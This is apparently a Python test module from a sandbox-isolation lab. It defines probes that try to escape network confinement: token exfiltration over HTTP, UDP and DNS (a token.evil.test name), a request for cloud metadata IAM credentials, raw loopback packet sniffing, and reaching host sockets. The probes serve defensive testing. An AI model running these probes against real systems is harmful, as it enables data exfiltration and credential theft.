# SPDX-License-Identifier: Apache-2.0
"""Attacks that reach somebody over a socket."""

import contextlib
import errno
import socket
import struct

from belljar_lab import host, outer, servers
from belljar_lab.attack import BY_ROOT, EVERY, Attack
from belljar_lab.outer import METADATA, PUBLIC
from belljar_lab.run import PYTHON_SHOWN, Run
from belljar_lab.servers import RESOLVER

NETLINK_KOBJECT_UEVENT = 15


def asks_over_http(address, request):
    """Python that sends one request: imports of a library would take longer than the run."""
    return f"""
peer = socket.create_connection(({address!r}, 80))
peer.sendall({request.encode()!r})
print(peer.makefile().read())
"""


def phones_home(run: Run):
    server, token = run.world.http, run.world.token()
    said = run.python(asks_over_http(
        PUBLIC, f"POST / HTTP/1.0\r\nContent-Length: {len(token)}\r\n\r\n{token}"))
    return run.judge(said, server.heard(token))


def asks_for_the_machines_credentials(run: Run):
    return run.python(asks_over_http(
        METADATA, "GET /latest/meta-data/iam/security-credentials/role HTTP/1.0\r\n\r\n"),
        leaks=run.world.metadata.token)


def resolves_a_name_that_tells(run: Run):
    """By hand: names are read from files only in the image, so its C library asks nobody."""
    token = run.world.token()
    name = f"{token}.evil.test"
    query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + b"".join(
        bytes([len(label)]) + label.encode() for label in [*name.split("."), ""]
    ) + struct.pack(">2H", 1, 1)
    said = run.python(f"""
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.connect(({RESOLVER!r}, 53))
sock.send({query!r})
sock.recv(512)
""")
    return run.judge(said, name in run.world.dns.names())


def connects_to_the_callers_loopback(run: Run):
    server, token = run.world.listener(), run.world.token()
    said = run.python(f"""
peer = socket.create_connection(("127.0.0.1", {server.port}))
peer.sendall({token!r}.encode())
""")
    return run.judge(said, server.heard(token))


def sends_a_datagram(run: Run):
    server = run.world.listener(kind=socket.SOCK_DGRAM, address=(PUBLIC, 0))
    token = run.world.token()
    said = run.python(f"""
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.sendto({token!r}.encode(), ({PUBLIC!r}, {server.port}))
""")
    return run.judge(said, server.heard(token))


def lets_itself_be_reached(run: Run):
    """It shows itself when it listens; whether it was reached it knows afterwards."""
    token = run.world.token()
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]

    def look(_pid):
        with contextlib.suppress(ConnectionRefusedError), \
                socket.create_connection(("127.0.0.1", port)) as peer:
            peer.sendall(token.encode())
        return token
    return run.command(run.python_words(f"""
listener = socket.create_server(("0.0.0.0", {port}))
{PYTHON_SHOWN}
listener.setblocking(False)
print(listener.accept()[0].recv(100))
"""), look=look)


def connects_to_a_path_socket(run: Run):
    (path, server), token = run.world.path_socket(), run.world.token()
    said = run.python(f"""
peer = socket.socket(socket.AF_UNIX)
peer.connect({str(path)!r})
peer.sendall({token!r}.encode())
""")
    return run.judge(said, server.heard(token))


class Lender(servers.Server):
    """Hands out sockets that are connected to the public address."""

    def speak(self, peer, address):
        with socket.create_connection((PUBLIC, 80)) as lent:
            socket.send_fds(peer, [b"x"], [lent.fileno()])


def borrows_a_socket(run: Run):
    path, _ = run.world.path_socket(kind=Lender)
    token = run.world.token()
    said = run.python(f"""
peer = socket.socket(socket.AF_UNIX)
peer.connect({str(path)!r})
_, fds, _, _ = socket.recv_fds(peer, 1, 1)
lent = socket.socket(fileno=fds[0])
lent.sendall(b"GET /{token} HTTP/1.0\\r\\n\\r\\n")
lent.makefile().read()
""")
    return run.judge(said, run.world.http.heard(token))


def lists_sockets(run: Run):
    name, _ = run.world.abstract_socket()
    return run.python("""
names = [line for line in open("/proc/net/unix") if "@lab-" in line]
print(*names)
if not names:
    sys.exit(print("not there"))
""", leaks=name)


def learns_addresses(run: Run):
    return run.python("""
routes = open("/proc/net/fib_trie").read()
print(routes)
words = routes.split()
own = {one for one, *kind in zip(words, words[1:], words[2:]) if kind == ["/32", "host"]}
if own <= {"127.0.0.1"}:
    sys.exit(print("not there"))
""", leaks=run.world.address())


def listens_to_the_network(run: Run):
    """It shows itself when it listens; only then somebody sends a token, and somebody gets it."""
    token, server = run.world.token(), run.world.listener(kind=socket.SOCK_DGRAM)

    def look(_pid):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(token.encode(), ("127.0.0.1", server.port))
        outer.until(lambda: server.heard(token))
        return token
    return run.command(run.python_words(f"""
every_protocol = socket.htons(3)
packets = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, every_protocol)
packets.bind(("lo", 0))
{PYTHON_SHOWN}
packets.setblocking(False)
captured = [packets.recv(4096)]
try:
    while True:
        captured.append(packets.recv(4096))
except BlockingIOError:
    print(captured)
"""), look=look)


def hears_the_kernel(run: Run):
    def look(pid):
        """The kernel's own has port 0, and is in no group."""
        lines = [line.split() for line in host.read(f"/proc/{pid}/net/netlink").splitlines()]
        return any(line[1] == str(NETLINK_KOBJECT_UEVENT) and line[2] != "0"
                   and line[3] == "00000001" for line in lines)
    return run.python(f"""
events = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, {NETLINK_KOBJECT_UEVENT})
events.bind((0, 1))
""", look=look)


def meets_another_run(run: Run):
    """A port taken by one is taken for all, whatever namespace they are in."""
    port = 0x40000000 + int(run.world.token()[:6], 16)

    def look(_pid):
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
            try:
                sock.bind((socket.VMADDR_CID_ANY, port))
            except OSError as error:
                return error.errno == errno.EADDRINUSE
    return run.python(f"""
meeting = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
meeting.bind((socket.VMADDR_CID_ANY, {port}))
""", look=look)


def connects_to_an_abstract_socket(run: Run):
    (name, server), token = run.world.abstract_socket(), run.world.token()
    said = run.python(f"""
peer = socket.socket(socket.AF_UNIX)
peer.connect("\\0{name}")
peer.sendall({token!r}.encode())
""")
    return run.judge(said, server.heard(token))


ROWS = [
    Attack("phone-home", "C", phones_home, main=True,
           does="posts a token to a public address over HTTP",
           success="the server there received the token",
           stops=(("net", "ENETUNREACH"),)),
    Attack("ask-metadata", "C", asks_for_the_machines_credentials,
           does="asks a cloud's metadata service for the machine's credentials",
           success="the random token that it gives is in the program's output",
           stops=(("net", "ENETUNREACH"),)),
    Attack("tell-by-name", "C", resolves_a_name_that_tells,
           does="resolves a name that has a token in it",
           success="the resolver was asked for that name",
           stops=(("net", "ECONNREFUSED"),)),
    Attack("reach-host-loopback", "C", connects_to_the_callers_loopback,
           does="connects to a server on the host's loopback and sends a token",
           success="the server received the token",
           stops=(("net", "ECONNREFUSED"),)),
    Attack("reach-abstract-socket", "A", connects_to_an_abstract_socket,
           does="connects to an abstract socket of a process outside and sends a token",
           success="the server received the token",
           stops=(("net", "ECONNREFUSED"), ("landlock", "EPERM", EVERY, "landlock-scopes"))),
    Attack("send-datagram", "C", sends_a_datagram,
           does="sends a token to a public address by UDP",
           success="the server there received the token",
           stops=(("net", "ENETUNREACH"),)),
    Attack("be-reached", "C", lets_itself_be_reached,
           does="listens on every address, so that somebody outside may connect to it",
           success="a token that was sent to it from outside is in the program's output",
           stops=(("net", "EAGAIN"),)),
    Attack("reach-path-socket", "A", connects_to_a_path_socket,
           does="connects to a socket of the host by its path and sends a token",
           success="the server received the token",
           stops=(("mount", "ENOENT"),)),
    Attack("borrow-socket", "C", borrows_a_socket,
           does="asks a helper outside for a socket that is connected to a public address",
           success="the server there received a token over that socket",
           stops=(("mount", "ENOENT"),)),
    Attack("list-host-sockets", "A", lists_sockets,
           does="reads the names of all sockets",
           success="the random name of one of the host is in the program's output",
           stops=(("net", "not there"),)),
    Attack("learn-addresses", "A", learns_addresses,
           does="reads which addresses the host has",
           success="its random address is in the program's output",
           stops=(("net", "not there"),)),
    Attack("sniff-network", "C", listens_to_the_network, modes=BY_ROOT,
           does="reads every packet of the host's loopback",
           success="a token that somebody else sent and received is in the program's output",
           stops=(("seccomp", "EAFNOSUPPORT"), ("user", "EPERM"))),
    Attack("hear-kernel-events", "J", hears_the_kernel,
           does="listens to the kernel's events of devices, over netlink",
           success="it has that socket",
           stops=(("seccomp", "EPROTONOSUPPORT"),)),
    Attack("meet-by-vsock", "A", meets_another_run, needs=("vsock",),
           does="takes a port of a family of sockets that no namespace divides",
           success="the port is taken outside as well",
           stops=(("seccomp", "EAFNOSUPPORT"),)),
]
